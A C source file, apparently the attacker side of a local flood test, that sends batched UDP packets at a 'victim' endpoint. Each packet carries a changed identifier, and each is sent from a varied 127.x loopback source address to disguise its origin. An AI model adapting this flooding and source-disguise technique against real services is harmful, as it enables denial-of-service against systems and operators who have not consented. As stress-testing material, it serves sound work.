/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "attacker.h"

#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#include "base/mem.h"

enum { BATCH = 64, FIRST_MAX = 2048, CONTROL = CMSG_SPACE(sizeof(struct in_pktinfo)) };

struct shot {
	uint8_t bytes[FIRST_MAX];
	_Alignas(struct cmsghdr) uint8_t control[CONTROL];
	struct iovec part;
};

struct volley {
	struct shot shots[BATCH];
	struct mmsghdr messages[BATCH];
	struct sockaddr_storage to;
};

static void aim(struct volley *v, const struct endpoint *victim, struct bytes first)
{
	socklen_t len = endpoint_to_sockaddr(victim, &v->to);

	for (int i = 0; i < BATCH; i++) {
		struct shot *s = &v->shots[i];
		struct msghdr *m = &v->messages[i].msg_hdr;
		struct cmsghdr *c;

		memcpy(s->bytes, first.ptr, first.len);
		s->part = (struct iovec) { s->bytes, first.len };
		*m = (struct msghdr) {
			.msg_name = &v->to, .msg_namelen = len, .msg_iov = &s->part,
			.msg_iovlen = 1, .msg_control = s->control,
			.msg_controllen = sizeof(s->control),
		};
		c = CMSG_FIRSTHDR(m);
		c->cmsg_level = IPPROTO_IP;
		c->cmsg_type = IP_PKTINFO;
		c->cmsg_len = CMSG_LEN(sizeof(struct in_pktinfo));
	}
}

/* Another source and another SPI. */
static void disguise(struct shot *s, struct msghdr *m, uint64_t n)
{
	uint32_t low = (uint32_t)(n * 2654435761U) & 0xffffff;
	struct in_pktinfo info = {
		.ipi_spec_dst.s_addr = htonl(0x7f000000 | (low < 0x10000 ? low + 0x10000 : low)),
	};

	memcpy(CMSG_DATA(CMSG_FIRSTHDR(m)), &info, sizeof(info));
	for (int i = 0; i < 8; i++)
		s->bytes[i] = (uint8_t)((n + 1) >> (8 * i));
}

static int open_socket(void)
{
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), small = 1;
	struct sockaddr_in any = { .sin_family = AF_INET };

	if (fd < 0 || bind(fd, (struct sockaddr *)&any, sizeof(any))) {
		perror("flood: the attacker's socket");
		exit(2);
	}
	(void)setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
	return fd;
}

void attack(const struct endpoint *victim, struct bytes first, const _Atomic int *stop,
	    _Atomic uint64_t *sent)
{
	struct volley *v = NEW(struct volley);
	int fd = open_socket(), count;
	uint64_t n = 0;

	if (first.len > FIRST_MAX)
		exit(2);
	aim(v, victim, first);
	while (!atomic_load(stop)) {
		for (int i = 0; i < BATCH; i++)
			disguise(&v->shots[i], &v->messages[i].msg_hdr, n + (uint64_t)i);
		count = sendmmsg(fd, v->messages, BATCH, 0);
		if (count > 0) {
			n += (uint64_t)count;
			atomic_store(sent, n);
		}
	}
	mem_free(v);
}
